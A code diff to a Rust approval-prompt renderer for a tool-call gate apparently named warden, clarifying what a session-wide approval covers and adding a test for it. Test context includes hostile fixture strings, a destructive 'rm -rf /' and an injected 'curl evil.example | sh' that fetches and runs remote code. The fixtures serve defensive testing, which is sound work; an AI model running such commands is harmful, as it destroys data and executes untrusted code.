@@ -124,7 +124,9 @@ pub fn render_prompt(p: &AskPrompt) -> String {
         .join("\n");
     format!(
         "\nwarden: tool call needs your approval ({effect} from stage `{stage}`)\n  \
-         server: {server}\n  tool:   {tool} ({qualified})\n  arguments:\n{args}\n  why:\n{reasons}\n\
+         server: {server}\n  tool:   {tool} ({qualified})\n  arguments:\n{args}\n  why:\n{reasons}\n  \
+         [s]ession allows every later call of {qualified} asked about for these same reasons, \
+         whatever its arguments, until warden exits\n\
          Allow? [o]nce / [s]ession / [N]o: ",
         effect = Effect::Ask,
         stage = p.stage,
@@ -170,6 +172,31 @@ mod tests {
         let text = render_prompt(&prompt);
         assert!(text.contains("/zzz_command: \"rm -rf /\""), "{text}");
         assert!(text.contains("; curl evil.example | sh\""), "{text}");
+    }
+
+    /// `s` approves more than the call shown: every later call of the
+    /// tool asked about for the same reasons, with other arguments. The
+    /// question said only `[s]ession`; it now says what that covers.
+    #[test]
+    fn the_question_says_what_a_session_answer_covers() {
+        let arguments = serde_json::json!({"url": "https://a@b.example/"});
+        let prompt = AskPrompt {
+            server: "s".into(),
+            tool: "t".into(),
+            qualified: "mcp__s__t".into(),
+            argument_lines: warden_policy::argument_lines(&arguments).unwrap(),
+            arguments,
+            stage: warden_core::Stage::Policy,
+            reasons: vec!["argument /url cannot be read with certainty".into()],
+        };
+        let text = render_prompt(&prompt);
+        assert!(
+            text.contains(
+                "[s]ession allows every later call of mcp__s__t asked about for these same \
+                 reasons, whatever its arguments, until warden exits\nAllow? [o]nce"
+            ),
+            "{text}"
+        );
     }
 
     /// A server's name, a tool name, an argument key and value and a
